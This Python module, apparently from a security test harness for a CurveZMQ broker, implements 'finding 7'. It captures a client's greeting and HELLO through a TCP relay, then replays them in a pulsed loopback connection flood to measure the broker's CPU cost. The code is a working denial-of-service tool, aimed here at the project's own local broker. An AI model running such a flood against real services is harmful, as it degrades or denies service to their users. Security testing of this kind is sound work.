"""Issue 18's finding 7: one address floods the broker with connections, each replaying one captured HELLO.

`capture_hello` (before the go) runs a real CurveZMQ handshake through a
tiny TCP relay that records what the client sends: the 64-byte ZMTP greeting
and the HELLO command (a stranger's: any Curve key will do, HELLO carries
none of it). The
flood then opens TCP connections from one loopback address as fast as its
pace allows, sends those bytes unchanged on each, and counts what the broker
does: a WELCOME (it did the handshake's crypto for a replay), a close, or
nothing within a second.

The flood comes in pulses: `PULSE` seconds on, `PULSE` seconds off, from the
moment it starts (reported as `pulse_start`, a `time.monotonic()` value); the
connections still waiting when a pulse ends are closed then. The
runner samples the broker's CPU time all along; the broker's CPU share in the
"on" windows minus that in the "off" windows is what this attacker costs it,
while everything else goes on.
"""

from __future__ import annotations

import contextlib
import dataclasses
import errno
import secrets
import selectors
import socket
import struct
import time

import zmq

from attack.common import QUEUE, AttackSpec, Pacer, Stats, broker_keys, tcp
from attack.zmtp import COMMAND
from harness.dealer import hand_picked_dealer

PULSE = 2.0  # seconds on, then seconds off
FLOOD_RATE = 2000.0  # new connections per second while on
MAX_IN_FLIGHT = 256  # connections waiting for the broker's answer
ANSWER_TIMEOUT = 1.0
GREETING_BYTES = 64
HELLO_BODY = b"\x05HELLO"
WELCOME_BODY = b"\x07WELCOME"
CAPTURE_TIMEOUT = 10.0
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)  # pick the port at connect time


class CaptureError(Exception):
    """The relay did not see a greeting and a HELLO."""


def _hello_end(data: bytes) -> int | None:
    """Where the client's greeting and HELLO command end in `data`, once it holds them."""
    if len(data) < GREETING_BYTES + 2:
        return None
    flags, size = data[GREETING_BYTES], data[GREETING_BYTES + 1]
    if not flags & COMMAND:
        raise CaptureError("the client's first frame after its greeting is not a command")
    end = GREETING_BYTES + 2 + size
    if len(data) < end:
        return None
    if not data[GREETING_BYTES + 2 :].startswith(HELLO_BODY):
        raise CaptureError("the client's first command is not HELLO")
    return end


def capture_hello(spec: AttackSpec) -> bytes:
    """A stranger's greeting and CurveZMQ HELLO, recorded by a TCP relay between a real DEALER and the broker."""
    source = spec.sources[0]
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    conns: list[socket.socket] = []
    try:
        listener.bind((source, 0))
        listener.listen(1)
        listener.settimeout(CAPTURE_TIMEOUT)
        relay_port = listener.getsockname()[1]
        dealer = hand_picked_dealer(
            context,
            f"tcp://{source}:{relay_port}",
            secrets.token_bytes(32),
            broker_keys(spec).curve or b"",
            queue_limit=QUEUE,
        )
        try:
            client, _ = listener.accept()
            conns.append(client)
            upstream = tcp(source, spec.port)
            conns.append(upstream)
            recorded = b""
            deadline = time.monotonic() + CAPTURE_TIMEOUT
            selector = selectors.DefaultSelector()
            selector.register(client, selectors.EVENT_READ, upstream)
            selector.register(upstream, selectors.EVENT_READ, client)
            with selector:
                while time.monotonic() < deadline:
                    for key, _ in selector.select(0.1):
                        data = key.fileobj.recv(65536)  # type: ignore[union-attr]
                        if not data:
                            raise CaptureError("a side of the relay closed before the HELLO")
                        key.data.sendall(data)
                        if key.fileobj is client:
                            recorded += data
                    end = _hello_end(recorded)
                    if end is not None:
                        return recorded[:end]
            raise CaptureError(f"no HELLO through the relay within {CAPTURE_TIMEOUT:g}s")
        finally:
            dealer.close(linger=0)
    finally:
        for conn in conns:
            conn.close()
        listener.close()
        context.term()


def prepare_flood(spec: AttackSpec) -> AttackSpec:
    """Before the go: capture the HELLO once (the spec with it as `captured_hello`)."""
    return dataclasses.replace(spec, captured_hello=(capture_hello(spec),))


def _open(source: str, port: int) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close = reset
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        sock.bind((source, 0))
        sock.setblocking(False)
        code = sock.connect_ex(("127.0.0.1", port))
        if code not in (0, errno.EINPROGRESS):
            raise OSError(code, errno.errorcode.get(code, "connect failed"))
    except OSError:
        sock.close()
        raise
    return sock


class _Flood:
    """The flood's connections waiting for the broker's answer, and what became of each (counted in `stats`)."""

    def __init__(self, spec: AttackSpec, captured: bytes, stats: Stats) -> None:
        self.source, self.port = spec.sources[0], spec.port
        self.captured = captured
        self.stats = stats
        self.selector = selectors.DefaultSelector()
        self.in_flight: dict[socket.socket, tuple[float, bytearray]] = {}

    def finish(self, sock: socket.socket, outcome: str) -> None:
        self.stats[outcome] += 1
        self.selector.unregister(sock)
        del self.in_flight[sock]
        sock.close()

    def finish_all(self, outcome: str) -> None:
        for sock in list(self.in_flight):
            self.finish(sock, outcome)

    def open(self, pacer: Pacer, now: float) -> None:
        """New connections as the pace allows, up to MAX_IN_FLIGHT waiting."""
        while len(self.in_flight) < MAX_IN_FLIGHT and pacer.due(now):
            try:
                sock = _open(self.source, self.port)
            except OSError:
                self.stats["connect_failures"] += 1
                break
            self.stats["connections"] += 1
            self.in_flight[sock] = (now, bytearray())
            self.selector.register(sock, selectors.EVENT_WRITE)

    def step(self, now: float) -> None:
        """Send the captured bytes on every connection that is up, read the answers, give up on the slow ones."""
        for key, events in self.selector.select(0.002):
            sock: socket.socket = key.fileobj  # type: ignore[assignment]
            if events & selectors.EVENT_WRITE and key.events == selectors.EVENT_WRITE:
                self._send(sock)
            else:
                self._read(sock)
        for sock, (opened, _) in list(self.in_flight.items()):
            if now - opened > ANSWER_TIMEOUT:
                self.finish(sock, "unanswered")

    def _send(self, sock: socket.socket) -> None:
        if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self.finish(sock, "connect_failures")
            return
        try:
            sock.send(self.captured)
        except OSError:
            self.finish(sock, "closed_by_broker")
            return
        self.selector.modify(sock, selectors.EVENT_READ)

    def _read(self, sock: socket.socket) -> None:
        try:
            data = sock.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            self.finish(sock, "closed_by_broker")
            return
        if not data:
            self.finish(sock, "closed_by_broker")
            return
        buffer = self.in_flight[sock][1]
        buffer += data
        if WELCOME_BODY in buffer:
            self.finish(sock, "welcomes")

    def close(self) -> None:
        for sock in list(self.in_flight):
            sock.close()
        self.selector.close()


def hello_flood(spec: AttackSpec, end: float) -> Stats:
    stats: Stats = {
        "connections": 0,
        "welcomes": 0,
        "closed_by_broker": 0,
        "unanswered": 0,
        "connect_failures": 0,
        "on_seconds": 0,
    }
    captured = spec.captured_hello[0] if spec.captured_hello else capture_hello(spec)
    stats["hello_bytes"] = len(captured)
    rate = FLOOD_RATE * spec.scale
    flood = _Flood(spec, captured, stats)
    start = time.monotonic()
    stats["pulse_start"] = start
    pacer: Pacer | None = None
    try:
        while (now := time.monotonic()) < end:
            on = int((now - start) / PULSE) % 2 == 0
            if on and pacer is None:
                pacer = Pacer(rate, now)
            elif not on and pacer is not None:  # the pulse ends: nothing of it is left for the broker to do
                pacer = None
                flood.finish_all("unanswered")
            if pacer is not None:
                flood.open(pacer, now)
            flood.step(now)
        elapsed = time.monotonic() - start
        whole, part = divmod(elapsed, 2 * PULSE)
        stats["on_seconds"] = round(whole * PULSE + min(part, PULSE), 2)
        stats["connections_per_s_on"] = round(stats["connections"] / max(1e-9, stats["on_seconds"]), 1)
    finally:
        flood.close()
    return stats
